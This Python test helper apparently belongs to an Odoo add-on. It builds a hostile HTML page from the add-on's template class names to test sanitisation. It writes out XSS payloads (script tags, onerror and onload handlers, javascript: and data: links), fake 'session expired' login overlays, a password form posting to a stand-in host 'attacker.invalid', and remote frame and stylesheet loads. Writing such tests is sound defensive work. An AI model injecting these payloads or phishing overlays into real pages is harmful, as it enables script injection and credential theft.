"""What somebody hostile writes: all that our templates and scripts know by name.

The names are read from the templates, so that a new one is tried by itself.
"""

import json
import re
from html import escape

from lxml import etree

from tools.paths import ROOT

# Nobody answers there; a test answers for it, and notes who asks.
ATTACKER = "http://attacker.invalid"
HACKED = "window.top.hacked = document.domain"
# What an element that lies in wait has, and keeps: its tooltip.
TRAP = "trap"
# Classes of Odoo and Bootstrap that lay things over others.
OVERLAYS = ("position-fixed vw-100 vh-100 top-0 start-0 z-3", "modal show d-block")
STYLES = (
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999",
    "position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px",
    "margin:-3000px;padding:4000px",
    "float:left;margin-top:-2500px;margin-left:-900px;width:3000px;height:5000px",
    "display:block;transform:translate(-50vw,-80vh) scale(40)",
    "font-size:4000px;line-height:0",
)


def names():
    """Return the classes, ids and data attributes of all templates.

    :rtype: tuple[set[str], set[str], set[str]]
    """
    classes, ids, data = set(), set(), set()
    for path in (ROOT / "views").glob("*.xml"):
        for node in etree.parse(path).iter(etree.Element):
            for name, value in _attributes(node):
                plain = re.sub("^t-(att|attf)-", "", name)
                if plain == "class":
                    classes.update(re.findall(r"\bo_\w+|\b[a-z][\w-]+", value))
                elif plain == "id" and not node.xpath("ancestor-or-self::record"):
                    ids.add(re.sub(r"#?\{+[^}]*\}+", "1", value))
                elif plain.startswith("data-"):
                    data.add(plain)
    return classes, {one for one in ids if re.fullmatch(r"[\w-]+", one)}, data


def _attributes(node):
    if node.tag == "attribute":  # of a template that changes another one
        return [(node.get("name", ""), node.text or node.get("add") or "")]
    return [] if node.tag == "template" else node.items()


def page():
    """Return everything in one text, as HTML."""
    classes, ids, data = names()
    assert {"o_cp_slow", "o_cp_chart", "o_cp_form"} <= classes
    assert {"o_cp_comments", "o_cp_widget_1"} <= ids
    assert {"data-slices", "data-name"} <= data
    values = "".join(f' {name}="{escape(_value(name))}"' for name in sorted(data))
    own = sorted(name for name in classes if name.startswith("o_"))
    parts = [
        f'<div class="{name}" title="{TRAP}"{values}><a class="{name}"'
        f' href="{ATTACKER}/{name}.html">Show</a></div>'
        for name in own
    ]
    parts += [f'<p class="{one}">{one}</p>' for one in sorted(classes - {*own})]
    parts += [f'<p id="{name}" name="{name}">{name}</p>' for name in sorted(ids)]
    for name in ("o_cp_slow", "o_cp_chart", "o_cp_faq_read", "o_cp_form"):
        inner = f'<section class="{name}" id="x"{values}>{_form(name)}</section>'
        parts.append(
            f'<div id="wrap"><div class="o_cp_home container">{inner}</div></div>'
        )
    return "".join([*parts, *_overlays(), *_scripts()])


def _value(name):
    """Return an address for an attribute, or what leads to one."""
    if name == "data-slices":
        link = f"javascript:{HACKED}"
        part = {"label": "x", "text": "1", "value": 1, "colour": "red", "url": link}
        return json.dumps([part])
    return "pie" if name == "data-type" else f"{ATTACKER}/{name}"


def _form(name):
    return (
        f'<a href="{ATTACKER}/{name}.html">Show</a>'
        f'<form action="{ATTACKER}/form" method="post"><input name="_prints">'
        '<input type="password" name="password"><button>Log in</button></form>'
        "<details open><summary>x</summary></details><ul></ul>"
    )


def _overlays():
    words = f'Your session has expired <a href="{ATTACKER}/login">Log in</a>'
    marks = [f'style="{style};background:red"' for style in STYLES]
    marks += [f'class="{classes} bg-danger"' for classes in OVERLAYS]
    return [f'<div {mark} title="{TRAP}">{words}</div>' for mark in marks]


def _scripts():
    return [
        f"<script>{HACKED}</script>",
        f'<img src="x" onerror="{HACKED}">',
        f'<svg onload="{HACKED}"><script>{HACKED}</script></svg>',
        f'<iframe src="{ATTACKER}/frame.html"></iframe>',
        f'<object data="{ATTACKER}/object.html"></object>',
        f'<embed src="{ATTACKER}/embed.html">',
        f'<base href="{ATTACKER}/"><meta http-equiv="refresh" content="0;{ATTACKER}">',
        f'<link rel="stylesheet" href="{ATTACKER}/style.css">',
        f"<style>@import '{ATTACKER}/style.css'; body {{ display: none }}</style>",
        f'<p style="background:url({ATTACKER}/picture.png)">x</p>',
        f'<a href="javascript:{HACKED}">x</a>',
        f'<a href="data:text/html,<script>{HACKED}</script>">x</a>',
    ]
